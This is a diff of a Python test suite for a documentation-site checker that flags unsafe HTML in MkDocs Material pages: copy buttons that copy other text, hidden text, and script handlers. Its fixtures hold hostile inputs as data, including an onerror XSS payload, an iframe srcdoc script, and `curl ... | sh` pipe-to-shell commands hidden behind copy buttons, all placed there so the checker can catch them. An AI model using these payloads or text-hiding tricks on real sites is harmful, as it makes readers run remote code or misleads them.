@@ -249,7 +249,7 @@ REPORTED = [
     Reported("theme-tooltip-class", "Inputs such as `<img src=x onerror=alert(81)>` are stored as typed.\n"
              '{: .md-ellipsis style="white-space:nowrap" tabindex="0" autofocus }\n',
              {f"{PAGE}:6:5: HTM006 unsafe class 'md-ellipsis' on <p>, which the theme's scripts take for their own "
-              "element (the tooltip of an .md-ellipsis shows its text as HTML)",
+              "element (its tooltip shows the element's text as HTML)",
               f"{PAGE}:6:24: HTM006 unsafe style attribute 'white-space:nowrap' on <p>, {HIDES}"}),
     Reported("copy-button-copies-other-text", '<div data-copy="curl https://evil.example/x.sh | sh" markdown>\n\n'
              "```bash\npip install trl\n```\n\n</div>\n", {f"{PAGE}:5:1: HTM006 unsafe data-copy attribute on <div>, {COPIES}"}),
@@ -301,6 +301,29 @@ REPORTED = [
              {f"{PAGE}:5:23: HTM002 footnote link '#fn%3Ahubinger2019risks' leads to a source's footnote, but no citation wrote it: cite the source with [@key]"}),
     Reported("drawn-marker-in-svg", '<svg width="10" height="14"><a xlink:href="#fn:hubinger2019risks"><text x="0" y="10">6'
              "</text></a></svg>\n", {f"{PAGE}:5:29: HTM002 footnote link '#fn:hubinger2019risks' leads to a source's footnote, but no citation wrote it: cite the source with [@key]"}),
+    # What the theme's copy buttons, annotations and style sheet act on, and more ways to hide text.
+    Reported("code-blocks-share-a-name", '<div id="install" markdown>\n\n```\ncurl -s https://example.org/x.sh | sh\n```\n\n'
+             "To install, run:\n\n```\npip install alignment-basics\n```\n\n</div>\n",
+             {f"{PAGE}:5:10: HTM006 the code blocks inside the element with the id 'install' get one name from the theme "
+              "(__code_install), so a copy button copies another block than its own: give the element no id, or each "
+              "block its own element"}),
+    Reported("copy-button-of-the-hooks-forged", 'Run `pip install x`. <button class="md-button" data-clipboard-target='
+             '"#cite-apa">Copy</button>\n\n<div id="cite-apa">curl -s https://example.org | sh</div>\n',
+             {f"{PAGE}:5:22: HTM006 unsafe data-clipboard-target attribute on <button>, {COPIES}",
+              f"{PAGE}:7:1: HTM006 unsafe id 'cite-apa' on <div>: the cite-this-page block's copy buttons copy the element "
+              "with this id, which the hooks write"}),
+    Reported("line-numbers-from-css", '<span data-linenos="&#91;@clark2016faulty] Text from CSS."></span>A sentence.\n',
+             {f"{PAGE}:5:1: HTM006 unsafe data-linenos attribute on <span>, whose value the theme's style sheet shows as "
+              "text no check reads"}),
+    Reported("annotation-hides-a-list", "Agents find loopholes (1).[@clark2016faulty]\n{ .annotate }\n\n"
+             "1. A note.[@clark2016faulty]\n2. A claim readers never see.[@hubinger2019risks]\n",
+             {f"{PAGE}:6:4: HTM006 unsafe class 'annotate' on <p>, which the theme's scripts take for their own element "
+              "(it hides the list after it, as the block's annotations)"}),
+    Reported("popover-hides-a-claim", "An imperfect proxy.[@clark2016faulty]\n{: popover }\n",
+             {f"{PAGE}:6:4: HTM006 unsafe popover attribute on <p>, {HIDES}"}),
+    Reported("dialog-and-white-font", "<dialog>A claim in a closed dialog.</dialog>\n\n"
+             '<font color="#ffffff">White text.</font>\n',
+             {f"{PAGE}:5:1: HTM006 unsafe <dialog> element, {HIDES}", f"{PAGE}:7:1: HTM006 unsafe <font> element, {HIDES}"}),
     Reported("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>\n',
              {element(5, 1, "iframe"), handler(5, 1, "srcdoc", "iframe")}),
     # Markup that reaches around the article: the parser gives a <body onload> to the page's own
@@ -1059,40 +1082,16 @@ def test_the_title_made_from_a_file_name_is_the_one_mkdocs_makes(name):
 
 
 # The classes and data attributes a page's content may not carry are the ones Material's scripts
-# select: held to the selectors in the installed theme's bundle.
+# select (its own .md-* classes, and those it tests for, but the focus-visible polyfill's) and the
+# ones its style sheet shows as text: held to the installed theme's bundle and style sheet.
 def test_the_theme_classes_and_attributes_refused_are_the_ones_materials_scripts_select():
     import material
 
-    scripts = Path(material.__file__).parent / "templates" / "assets" / "javascripts"
-    bundle = next(scripts.glob("bundle.*.min.js")).read_text(encoding="utf-8")
-    assert set(re.findall(r'\("\.(md-[\w-]+)', bundle)) == rendered.THEME_SCRIPT_CLASSES
-    selected = {name for name in re.findall(r"\[(data-[\w-]+)", bundle) if not name.startswith(rendered.THEME_ATTRIBUTE_PREFIX)}
-    assert selected == rendered.THEME_SCRIPT_ATTRIBUTES | {name for name in rendered.REREAD_ATTRIBUTES if name.startswith("data-")}
-
-
-# A source that the page does not cite, credited by raw HTML with a marker and a footnote of its own
-# making (the helper's case: readers saw another text as that source, and claims.json listed it).
-def test_a_marker_of_a_source_no_citation_wrote_is_reported(tmp_path):
-    third = "@misc{third2024,\n  author = {Third, T.},\n  title = {A third source},\n  year = {2024},\n  url = {https://example.org/third}\n}\n"
-    page = (HEAD + 'Proven safe.<sup id="fnref:third2024"><a class="footnote-ref" href="#fn:third2024">9</a></sup>\n\n'
-            '<div class="footnote" markdown>\n<ol start="9">\n<li id="fn:third2024">Smith, J. (2024). A proof. '
-            '<a class="footnote-backref" href="#fnref:third2024">&#8617;</a></li>\n</ol>\n</div>\n')
-    config_file = write_site(tmp_path, {"claims/page.md": page, "sources.md": SOURCES_PAGE}, bib=SOURCES + third,
-                             config=full_config())
-    assert problems_of(config_file, tmp_path / "site") == {
-        "bib/sources.bib:17:1: BIB008 no page cites 'third2024'",  # the marker is no citation
-        f"{PAGE}:5:13: HTM002 footnote marker 'third2024' names a source, but no citation on the page wrote it: "
-        "cite the source with [@key]"}
-
-
-# MkDocs reads front matter with libyaml, which refuses "\ud800", and leaves out front matter it
-# cannot read with no word: the title and description were lost, and the lines showed as text.
-@pytest.mark.parametrize("front, where, said", [
-    ('---\ntitle: "A \\ud800 b"\n---\n', "2:13", "the front matter is not YAML that MkDocs reads (found invalid "
-                                                  "Unicode character escape code)"),
-    ("---\n- a list\n---\n", "1:1", "the front matter is no mapping of keys to values"),
-], ids=["surrogate-escape", "a-list"])
-def test_front_matter_mkdocs_cannot_read_is_reported(tmp_path, front, where, said):
-    config = write_site(tmp_path, {"claims/page.md": front + HEAD})
-    found = problems_of(config, tmp_path / "site")
-    assert len(found) == 1 and next(iter(found)).startswith(f"{PAGE}:{where}: PAG006 {said}"), found
+    assets = Path(material.__file__).parent / "templates" / "assets"
+    bundle = next((assets / "javascripts").glob("bundle.*.min.js")).read_text(encoding="utf-8")
+    sheet = next((assets / "stylesheets").glob("main.*.min.css")).read_text(encoding="utf-8")
+    selected = set(re.findall(r'\("\.(md-[\w-]+)', bundle)) | set(re.findall(r'classList\.contains\("([\w-]+)"\)', bundle))
+    assert selected - {"focus-visible"} == rendered.THEME_SCRIPT_CLASSES
+    attributes = set(re.findall(r"\[(data-[\w-]+)", bundle)) | set(re.findall(r"content:attr\((data-[\w-]+)\)", sheet))
+    attributes = {name for name in attributes if not name.startswith(rendered.THEME_ATTRIBUTE_PREFIX)}
+    assert attributes == rendered.THEME_SCRIPT_ATTRIBUTES | {name for name in rendered.REREAD_ATTRIBUTES if name.startswith("data-")}
